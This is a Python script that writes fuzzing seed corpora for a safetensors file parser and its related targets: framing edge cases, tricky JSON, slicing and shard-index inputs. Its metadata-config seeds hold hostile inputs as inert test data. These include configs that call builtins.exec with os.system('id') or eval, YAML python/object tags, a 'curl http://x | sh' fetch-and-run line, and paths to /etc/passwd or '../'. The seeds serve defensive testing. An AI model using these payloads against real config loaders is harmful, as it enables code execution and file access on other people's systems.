#!/usr/bin/env python3
"""Writes the seed corpora of the fuzz targets into fuzz/corpus/<target>/.

Seeds come from the shared conformance corpus (corpus/*.safetensors, the
lead's; read-only here) re-encoded for each target's input format, plus a few
cases of our own (generic JSON for the differential target, offset chains near
2^64, chunkings). The file-based targets (validate_file, prefix_vs_whole,
profile_relation) replay and fuzz corpus/ directly, so they only get the extra
files. Seeds are small and named after what they hold; rerun this script after
corpus/ changes:  python3 fuzz/make_seeds.py   (it writes or refreshes its own
named seeds and leaves the others alone: the ones fuzz/minimize_corpus.sh
merged in from campaigns, named by their SHA-1).
"""
import json
import struct
from pathlib import Path

FUZZ = Path(__file__).resolve().parent
ROOT = FUZZ.parent
OUT = FUZZ / "corpus"


def frame(header: bytes, data: bytes = b"", pad: bool = True) -> bytes:
    if pad and len(header) % 8:
        header += b" " * (8 - len(header) % 8)
    return struct.pack("<Q", len(header)) + header + data


def compact(obj) -> bytes:
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False).encode()


def header_of(file: bytes):
    """The N header bytes of a file, or None when the framing is broken."""
    if len(file) < 8:
        return None
    n = struct.unpack("<Q", file[:8])[0]
    return file[8:8 + n] if n <= len(file) - 8 else None


def corpus_files():
    directory = ROOT / "corpus"
    return sorted((p.stem, p.read_bytes()) for p in directory.glob("*.safetensors")) if directory.is_dir() else []


# Files of our own, beyond corpus/ (valid, compat-only and invalid).
def extra_files():
    u64_max = 2**64 - 1
    chain = {  # legal chain of offsets whose sum is 2^64 - 1: must be data_truncated, never a wrap
        "a": {"dtype": "U8", "shape": [2**63], "data_offsets": [0, 2**63]},
        "b": {"dtype": "U8", "shape": [2**63 - 1], "data_offsets": [2**63, u64_max]},
    }
    two = {
        "w": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]},
        "b": {"dtype": "I64", "shape": [1], "data_offsets": [0, 8]},
    }
    return {
        "offsets_sum_u64_max": frame(compact(chain)),
        "two_tensors_reverse_json_order": frame(compact(two), bytes(range(16))),
        "header_length_zero": struct.pack("<Q", 0),
        "header_length_max_short_file": struct.pack("<Q", 100_000_000) + b"{}",
        "eight_bytes_n_one": struct.pack("<Q", 1),
        "dims_fold_zero_first_u64": frame(compact({"t": {"dtype": "U8", "shape": [0, u64_max, 2], "data_offsets": [0, 0]}})),
        "c64_scalar": frame(compact({"c": {"dtype": "C64", "shape": [], "data_offsets": [0, 8]}}), bytes(8)),
        "f6_four": frame(compact({"f": {"dtype": "F6_E3M2", "shape": [4], "data_offsets": [0, 3]}}), b"\x01\x02\x03"),
    }


# Generic JSON for json_differential: numbers at every edge, escapes, nesting.
JSON_SNIPPETS = {
    "numbers": b'{"t":{"dtype":"U8","shape":[],"data_offsets":[0,1],"x":[0,-0,1.0,-1,1e5,1E+5,1e-400,0.1,'
               b'-0.0,1.7976931348623157e308,4.9e-324,2.2250738585072014e-308,9007199254740993]}}',
    "integers_u64_edges": b'{"t":{"dtype":"U8","shape":[0,18446744073709551615],"data_offsets":[0,0],'
                          b'"x":[18446744073709551616,-9223372036854775808,-9223372036854775809,'
                          b'123456789012345678901234567890]}}',
    "escapes": b'{"\\"\\\\\\/\\b\\f\\n\\r\\t\\u0041\\u00e9\\u20ac\\ud83d\\ude00":{"dtype":"U8","shape":[0],'
               b'"data_offsets":[0,0]},"__metadata__":{"k\\u0000":"v\\u0000\\u001f"}}',
    "raw_utf8": '{"__metadata__":{"名前":"值 ✓ 😀"},"é":{"dtype":"BOOL","shape":[1],"data_offsets":[0,1]}}'.encode(),
    "escaped_keys": b'{"__metad\\u0061ta__":{},"\\u0074":{"dtyp\\u0065":"F\\u00332","shape":[1],"data_offsets":[0,4]}}',
    "unknown_nested": b'{"t":{"x":{"a":[1,{"b":[true,false,null,"s",-2.5e-3]}],"c":{}},"dtype":"U8","shape":[1],'
                      b'"data_offsets":[0,1],"y":[[[[]]]]}}',
    "duplicates": b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"__metadata__":{"k":"1","k":"2"},'
                  b'"a":{"dtype":"I8","shape":[1],"data_offsets":[0,1]}}',
    "whitespace_everywhere": b' \t\n\r{ "t" : { "dtype" : "U8" , "shape" : [ 1 ] , "data_offsets" : [ 0 , 1 ] } }\r\n\t ',
    "root_array": b'[1,"two",{"three":3},[],{}]',
    "root_scalars_true": b"true",
    "root_string": b'"\\u00e9"',
    "empty": b"",
    "deep_128": b"[" * 128 + b"]" * 128,
    "deep_127_unknown": b'{"t":{"dtype":"U8","shape":[1],"data_offsets":[0,1],"x":' + b"[" * 125 + b"]" * 125 + b"}}",
    "lone_low_surrogate": b'{"\\udc00":{}}',
    "nul_after_object": b"{}\x00{}",
}

# (flags, chunk-length bytes) for stream_chunks seeds: whole, 1-byte, small
# mixed with empty chunks, compat (0x10), stop at the first false (0x20),
# large chunks. The control byte is flags | number of length bytes.
CHUNKINGS = [
    (0x00, b""),
    (0x00, b"\x01"),
    (0x00, b"\x03\x00\x07"),
    (0x10, b"\x08\x05\xfa"),
    (0x20, b"\x02\x09"),
    (0x30, b"\xc0"),
]

# Tight limits for header_parser: max_tensors 3, max_rank 2, max_name_bytes 8,
# max_integer 2^53-1, max_depth 4, max_header_bytes 256.
TIGHT = bytes([3, 2, 8, 255, 4, 16])


# roundtrip: [flags][count] then per tensor [name length][name bytes][dtype]
# [rank][dims...][producer chunk if flag 2], then [metadata count] entries,
# then the byte pool.
def roundtrip_seed(flags, tensors, metadata=(), pool=b"\x01\x02\x03\x04\x05"):
    out = bytes([flags, len(tensors)])
    for name, dtype, dims, chunk in tensors:
        out += bytes([len(name)]) + name + bytes([dtype, len(dims)]) + bytes(dims)
        if flags & 2:
            out += bytes([chunk])
    out += bytes([len(metadata)])
    for key, value in metadata:
        out += bytes([len(key)]) + key + bytes([len(value)]) + value
    return out + pool


ROUNDTRIP = {
    # alphabet names: bytes index the piece table (0 "a", 1 "b", 2 "w", 3 ".", 8 "é", 10 "__metadata__")
    "one_f32": roundtrip_seed(0, [(b"\x02", 17, [2, 3], 0)]),
    "all_kinds": roundtrip_seed(2, [(b"\x00", 21, [1], 1), (b"\x01", 1, [2], 2), (b"\x02\x03\x00", 2, [4], 3),
                                    (b"\x08", 0, [], 0), (b"\x09\x02", 18, [1, 1], 4)],
                                [(b"\x00", b"\x01\x02"), (b"\x00", b"\x03")]),
    "zero_size_and_scalar": roundtrip_seed(0, [(b"\x00", 4, [0, 3], 0), (b"\x01", 4, [], 0), (b"\x02", 17, [0], 0)]),
    "duplicate_names": roundtrip_seed(0, [(b"\x00", 4, [1], 0), (b"\x00", 5, [1], 0)]),
    "reserved_name": roundtrip_seed(0, [(b"\x0a", 4, [1], 0)]),
    "f4_odd": roundtrip_seed(0, [(b"\x00", 1, [3], 0)]),
    "bad_dtype_value": roundtrip_seed(0, [(b"\x00", 23, [1], 0)]),
    "raw_names": roundtrip_seed(1, [(b"\xff", 4, [1], 0), (b"a\x01", 4, [1], 0), (b"", 4, [1], 0), (b"\xc3\xa9", 4, [1], 0)]),
    "raw_metadata": roundtrip_seed(4, [(b"\x00", 4, [1], 0)], [(b"k\n", b"v"), (b"k", b"\x00"), (b"\xff", b"x")]),
    "rank_65": roundtrip_seed(0, [(b"\x00", 4, [1] * 0, 0)])[:5] + bytes([255]) + bytes([1] * 65) + b"\x00",
}

# slice: [dtype][rank][dims...][mode] then text (mode bit 0) or entries.
def slice_text(dtype, dims, text):
    return bytes([dtype, len(dims)]) + bytes(dims) + b"\x01" + text


def slice_entries(dtype, dims, entries):
    out = bytes([dtype, len(dims)]) + bytes(dims) + b"\x00" + bytes([len(entries)])
    for kind, start, stop in entries:
        out += bytes([kind])
        out += start.to_bytes(8, "little") + stop.to_bytes(8, "little") if kind & 4 else bytes([start, stop])
    return out


SLICE = {
    "text_rows": slice_text(17, [4, 3], b"1:3"),
    "text_index_and_range": slice_text(4, [3, 4, 2], b"1, 0:2"),
    "text_all": slice_text(19, [2, 2], b":,:"),
    "text_empty_spec_scalar": slice_text(17, [], b""),
    "text_open_ends": slice_text(13, [5, 2], b"2:, :1"),
    "text_bad": slice_text(4, [3], b"-1:2"),
    "text_too_many": slice_text(4, [3], b"0,0"),
    "f4_aligned": slice_entries(1, [4, 2], [(0, 1, 3)]),
    "f4_misaligned": slice_entries(1, [2, 4], [(1, 1, 0), (2, 1, 2)]),
    "f6_rows": slice_entries(2, [2, 4], [(1, 1, 0)]),
    "stop_before_start": slice_entries(4, [5], [(2, 3, 1)]),
    "out_of_range": slice_entries(4, [5], [(1, 5, 0)]),
    "empty_selection": slice_entries(17, [3, 0, 2], [(2, 1, 1)]),
    "wide_bounds": slice_entries(4, [3], [(6, 2**64 - 1, 2**64 - 1)]),
}

SHARD_INDEX = {
    "typical": b'{"metadata":{"total_size":40},"weight_map":{"a.weight":"model-00001-of-00002.safetensors",'
               b'"b.bias":"model-00002-of-00002.safetensors","c":"model-00001-of-00002.safetensors"}}',
    "pretty_with_unknown_keys": b'{\n  "metadata": {\n    "total_parameters": 10,\n    "total_size": 8\n  },\n'
                                b'  "weight_map": {\n    "w": "m.safetensors"\n  },\n  "extra": [1, {"x": null}]\n}\n',
    "no_total_size": b'{"weight_map":{"w":"m.safetensors"}}',
    "empty_map": b'{"metadata":{},"weight_map":{}}',
    "path_traversal": b'{"weight_map":{"w":"../m.safetensors"}}',
    "absolute_path": b'{"weight_map":{"w":"/etc/passwd"}}',
    "url": b'{"weight_map":{"w":"https:x"}}',
    "backslash": b'{"weight_map":{"w":"a\\\\b"}}',
    "duplicate_tensor_escaped": b'{"weight_map":{"w":"m","\\u0077":"n"}}',
    "duplicate_weight_map": b'{"weight_map":{},"weight_map":{}}',
    "total_size_above_2_53": b'{"metadata":{"total_size":9007199254740992},"weight_map":{}}',
    "total_size_float": b'{"metadata":{"total_size":1.0},"weight_map":{}}',
    "shard_not_string": b'{"weight_map":{"w":1}}',
    "tensor_name_control": b'{"weight_map":{"w\\u0001":"m"}}',
    "deep_unknown": b'{"x":' + b"[" * 40 + b"]" * 40 + b',"weight_map":{}}',
    "trailing_garbage": b'{"weight_map":{"w":"m.safetensors"}} x',
    "nul_after_object": b'{"weight_map":{}}\x00{}',
}

# Metadata values for metadata_config: a mode byte (0: the bytes are the
# value; 1: they are wrapped as a JSON string in {"k": ...}) and the value.
METADATA_CONFIG = {
    "flextok_exec.json": b'{"model": {"_target_": "builtins.exec", "_args_": ["import os; os.system(\'id\')"]},'
                         b' "enc": {"_target_": "flextok.model.Encoder", "dim": 512}}',
    "partial.json": b'{"hook": {"_partial_": true, "_target_": "subprocess.run", "_call_": false}}',
    "aliases.json": b'[{"_target_": "__builtin__.eval"}, {"_target_": " Posix : System "},'
                    b' {"class_path": "numpy.load", "allow_pickle": true}, {"_target_": "os.path.join"}]',
    "nested_string.json": json.dumps({"inner": json.dumps({"cfg": json.dumps({"_target_": "os.system"})})}).encode(),
    "string_root.json": json.dumps(json.dumps({"_target_": "eval"})).encode(),
    "interpolations.json": b'{"a": "${oc.env:HOME}", "b": "${eval:1+1}", "c": "${x.y}", "d": "\\\\${oc.env:NO}",'
                           b' "e": "${ now :%Y}", "_target_": "${a}"}',
    "payloads.json": b'{"blob": "UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAAAAA=", "cmd": "curl http://x | sh", "py": "__import__(\'os\')"}',
    "block.yaml": b"model:\n  _target_: builtins.exec\n  _args_:\n    - print(1)\nlayers:\n  - _target_: torch.nn.ReLU\n"
                  b"  - {_target_: os.system, _partial_: yes}\n? [complex, key]\n: value\n",
    "tags.yaml": b"--- !!python/object/apply:os.system [\"id\"]\n---\nx: !!python/name:pickle.loads\n",
    "anchors.yaml": b"a: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: {_target_: *b}\n",
    "one_line.yaml": b"_target_: builtins.exec",
    "deep.json": b"[" * 200 + b"]" * 200,
    "deep.yaml": b"{a: " * 200,
    "kohya.json": b'{"10_mychar": {"1girl": 50, "solo": 41}}',
    "plain.txt": b"Trigger word: mychar, see ${oc.env:HOME}",
}


def params(flags: int, budget: int = 255, tight: bytes = bytes(6), size: int = 0) -> bytes:
    return bytes([flags, budget]) + tight + struct.pack("<Q", size)


def write(target: str, name: str, data: bytes, seen: dict) -> None:
    if data in seen.setdefault(target, set()):
        return
    seen[target].add(data)
    directory = OUT / target
    directory.mkdir(parents=True, exist_ok=True)
    (directory / name).write_bytes(data)


def main() -> None:
    seen: dict = {}
    files = corpus_files() + sorted(extra_files().items())
    for index, (name, file) in enumerate(files):
        control, lengths = CHUNKINGS[index % len(CHUNKINGS)]
        write("stream_chunks", name, bytes([control | len(lengths)]) + lengths + file, seen)
        header = header_of(file)
        if header is None:
            continue
        write("json_differential", name, header, seen)
        write("header_parser", name + ".strict", params(0x00) + header, seen)
        write("header_parser", name + ".compat", params(0x01) + header, seen)
        if index % 5 == 0:
            write("header_parser", name + ".tight", params(0x02 | index % 2, 1, TIGHT) + header, seen)
            write("header_parser", name + ".size_delta", params(0x04, 2, size=0xFF) + header, seen)
    for name, file in sorted(extra_files().items()):
        for target in ("validate_file", "prefix_vs_whole", "profile_relation"):
            write(target, name, file, seen)
    for name, text in sorted(JSON_SNIPPETS.items()):
        write("json_differential", name, text, seen)
        write("header_parser", name + ".compat", params(0x01) + text, seen)
    for name, data in sorted(ROUNDTRIP.items()):
        write("roundtrip", name, data, seen)
    for name, data in sorted(SLICE.items()):
        write("slice", name, data, seen)
    for name, data in sorted(SHARD_INDEX.items()):
        write("shard_index", name, b"\x00" + data, seen)
        write("shard_index", name + ".tight", b"\x01" + data, seen)
    for name, data in sorted(METADATA_CONFIG.items()):
        write("metadata_config", name, b"\x00" + data, seen)
        write("metadata_config", name + ".in_string", b"\x01" + data, seen)
    for target in sorted(seen):
        print(f"{target}: {len(seen[target])} seeds")


if __name__ == "__main__":
    main()
